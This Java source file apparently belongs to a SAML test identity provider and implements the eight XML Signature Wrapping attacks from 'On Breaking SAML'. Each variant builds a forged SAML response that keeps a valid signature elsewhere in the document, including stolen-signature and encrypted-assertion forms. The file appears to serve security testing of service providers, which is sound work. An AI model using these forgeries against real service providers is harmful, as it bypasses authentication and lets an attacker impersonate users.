package de.stadttor.saml.testidp.answer;

import java.util.List;
import java.util.Map;
import org.w3c.dom.Document;
import org.w3c.dom.Element;

/**
 * Signature wrapping, variants 1 to 8. Source: Somorovsky et al., "On Breaking SAML", USENIX Security 2012. Each keeps
 * the signed element somewhere in the document and puts another in the place that is read. With encryption switched on,
 * every outermost assertion, forged or not, is encrypted afterwards.
 */
final class WrappingAttacks {

    private WrappingAttacks() {}

    static List<Attack> all() {
        return List.of(
                Attack.named("xsw1").signingResponse().finishing(WrappingAttacks::responseInsideSignature),
                Attack.named("xsw2").signingResponse().finishing(WrappingAttacks::responseBeforeSignature),
                Attack.named("xsw3").changingResponse((response, _) -> forgedSiblingFirst(response)),
                Attack.named("xsw4").changingResponse((response, _) -> forgedAroundOriginal(response)),
                Attack.named("xsw5").changingResponse((response, _) -> stolenSignatureOriginalLast(response)),
                Attack.named("xsw6").changingResponse((response, _) -> stolenSignatureAroundOriginal(response)),
                Attack.named("xsw7").changingResponse((response, _) -> forgedInExtensions(response)),
                Attack.named("xsw8").changingResponse((response, _) -> originalInObject(response)));
    }

    private static void responseInsideSignature(Document response, Attack.Workshop workshop) {
        Element original = forgedEnvelope(response, workshop);
        Forgery.addObject(Forgery.signature(response.getDocumentElement()).getFirst(), original);
    }

    private static void responseBeforeSignature(Document response, Attack.Workshop workshop) {
        Element original = forgedEnvelope(response, workshop);
        Element root = response.getDocumentElement();
        root.insertBefore(original, Forgery.signature(root).getFirst());
    }

    /** Turns the root into a forgery that keeps the signature; returns the original without it. */
    private static Element forgedEnvelope(Document response, Attack.Workshop workshop) {
        Element root = response.getDocumentElement();
        var original = (Element) root.cloneNode(true);
        Forgery.signature(original).forEach(Forgery::remove);
        root.setAttribute("ID", "_forgedResponse");
        boolean encrypted = IdpXml.all(root, IdpXml.SAML, "Assertion").isEmpty();
        if (encrypted) {
            Forgery.remove(IdpXml.first(root, IdpXml.SAML, "EncryptedAssertion"));
            root.appendChild(response.importNode(
                    AnswerXml.assertion(new AnswerDraft(Map.of(Field.ASSERTION_ID, "_forged"), List.of()))
                            .getDocumentElement(),
                    true));
            workshop.encrypt(response);
        } else {
            Element assertion = Forgery.assertion(response);
            root.replaceChild(Forgery.forged(assertion), assertion);
        }
        return original;
    }

    private static void forgedSiblingFirst(Document response) {
        Element original = Forgery.assertion(response);
        response.getDocumentElement().insertBefore(Forgery.forged(original), original);
    }

    private static void forgedAroundOriginal(Document response) {
        Element original = Forgery.assertion(response);
        Element forged = Forgery.forged(original);
        response.getDocumentElement().replaceChild(forged, original);
        forged.appendChild(original);
    }

    private static void stolenSignatureOriginalLast(Document response) {
        Element original = Forgery.assertion(response);
        Element forged = Forgery.forged(original);
        Forgery.addSignature(forged, Forgery.signature(original).getFirst());
        response.getDocumentElement().insertBefore(forged, original);
    }

    private static void stolenSignatureAroundOriginal(Document response) {
        Element original = Forgery.assertion(response);
        Element forged = Forgery.forged(original);
        Element signature = Forgery.signature(original).getFirst();
        Forgery.addSignature(forged, signature);
        response.getDocumentElement().replaceChild(forged, original);
        signature.appendChild(original);
    }

    private static void forgedInExtensions(Document response) {
        Element original = Forgery.assertion(response);
        Element extensions = response.createElementNS(IdpXml.SAMLP, "saml2p:Extensions");
        extensions.appendChild(Forgery.forged(original));
        Element status = IdpXml.first(response.getDocumentElement(), IdpXml.SAMLP, "Status");
        response.getDocumentElement().insertBefore(extensions, status);
    }

    private static void originalInObject(Document response) {
        Element original = Forgery.assertion(response);
        Element forged = Forgery.forged(original);
        Element signature = Forgery.signature(original).getFirst();
        Forgery.addSignature(forged, signature);
        response.getDocumentElement().replaceChild(forged, original);
        Forgery.addObject(signature, original);
    }
}
